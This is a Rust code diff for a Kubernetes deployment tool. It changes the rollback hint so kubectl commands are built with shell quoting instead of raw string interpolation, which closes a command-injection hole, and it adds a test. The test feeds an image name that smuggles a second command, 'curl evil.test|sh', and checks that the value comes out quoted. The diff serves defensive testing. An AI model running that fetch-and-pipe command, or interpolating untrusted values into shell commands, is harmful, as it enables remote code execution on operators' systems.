@@ -4,6 +4,7 @@ use commons::printable;
 use commons::workload::Earlier;
 
 use crate::settings::Settings;
+use commons::shell::shell;
 
 /// That an earlier version still serves, and how to go back to it where one command can: what variables and files were before is
 /// not known.
@@ -12,9 +13,8 @@ pub fn hint(
     name: &str,
     before: &Settings,
     settings: &Settings,
-    here: &str,
+    here: Option<&str>,
 ) -> String {
-    let image = printable::word(&earlier.image);
     let same_inputs = before.env == settings.env
         && before.files == settings.files
         && before.secrets == settings.secrets;
@@ -24,12 +24,21 @@ pub fn hint(
     };
     if earlier.image != settings.image && other_image == *before {
         format!(
-            "meanwhile {image} still serves; to go back to it: `kubectl deploy-app {name} --image {image}{here}`"
+            "meanwhile {} still serves; to go back to it: `{}`",
+            printable::line(&earlier.image),
+            shell("kubectl deploy-app")
+                .arg(name)
+                .then("--image")
+                .arg(&earlier.image)
+                .option("-n", here)
         )
     } else if same_inputs {
         format!(
-            "meanwhile what ran before still serves; to go back to it: `kubectl rollout undo deployment/{name} --to-revision={}{here}`",
-            earlier.revision
+            "meanwhile what ran before still serves; to go back to it: `{}`",
+            shell("kubectl rollout undo")
+                .arg(format!("deployment/{name}"))
+                .equals("--to-revision", earlier.revision)
+                .option("-n", here)
         )
     } else {
         "meanwhile what ran before still serves".into()
@@ -50,18 +59,28 @@ mod tests {
         let mut newer = settings.clone();
         newer.image = "web:2".into();
         assert_eq!(
-            hint(&earlier, "web", &settings, &newer, " -n a"),
+            hint(&earlier, "web", &settings, &newer, Some("a")),
             "meanwhile web:1 still serves; to go back to it: `kubectl deploy-app web --image web:1 -n a`"
         );
         newer.port = Some(9000);
         assert_eq!(
-            hint(&earlier, "web", &settings, &newer, ""),
+            hint(&earlier, "web", &settings, &newer, None),
             "meanwhile what ran before still serves; to go back to it: `kubectl rollout undo deployment/web --to-revision=4`",
             "the image alone would not go back"
         );
+        let hostile = Earlier {
+            revision: 4,
+            image: "web:1; curl evil.test|sh".into(),
+        };
+        newer.port = settings.port;
+        assert!(
+            hint(&hostile, "web", &settings, &newer, None)
+                .ends_with("`kubectl deploy-app web --image 'web:1; curl evil.test|sh'`")
+        );
+        newer.port = Some(9000);
         newer.env.insert("A".into(), "other".into());
         assert_eq!(
-            hint(&earlier, "web", &settings, &newer, ""),
+            hint(&earlier, "web", &settings, &newer, None),
             "meanwhile what ran before still serves"
         );
     }
